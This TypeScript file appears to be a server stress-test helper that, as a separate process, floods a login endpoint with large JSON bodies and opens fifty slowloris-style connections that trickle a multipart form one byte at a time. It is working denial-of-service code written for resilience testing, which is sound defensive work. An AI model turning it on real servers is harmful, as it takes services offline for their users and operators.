// Sends what is to stall a server, as a process of its own: its own work must not be in the times that are measured.
import { connect } from 'node:net'

const BODIES = 20
const SLOW_FORMS = 50

const heavy = JSON.stringify(Object.fromEntries(Array.from({ length: 90_000 }, (_, at) => [`k${at}`, at])))

/** One sends its body again and again, as soon as it is answered. */
async function sendBodies(origin: string): Promise<never> {
  const headers = { 'content-type': 'application/json' }
  for (;;)
    await fetch(`${origin}/api/login`, { method: 'POST', headers, body: heavy })
      .then((answer) => answer.arrayBuffer())
      // A line that is cut is opened again: an attacker does the same.
      .catch(() => undefined)
}

function dribbleForm(origin: string): void {
  const { hostname, port } = new URL(origin)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => undefined)
  socket.write(
    `POST /api/estimates/cost-contact-form-submit HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: multipart/form-data; boundary=b\r\n` +
      'content-length: 1000000\r\n\r\n--b\r\ncontent-disposition: form-data; name="name"\r\n\r\n',
  )
  const dribble = setInterval(() => socket.writable && socket.write('a'), 200)
  socket.once('close', () => clearInterval(dribble))
}

process.once('message', ({ origin }: { readonly origin: string }) => {
  for (let count = 0; count < SLOW_FORMS; count++) dribbleForm(origin)
  for (let count = 0; count < BODIES; count++) void sendBodies(origin)
  process.send?.({ port: 0 })
})
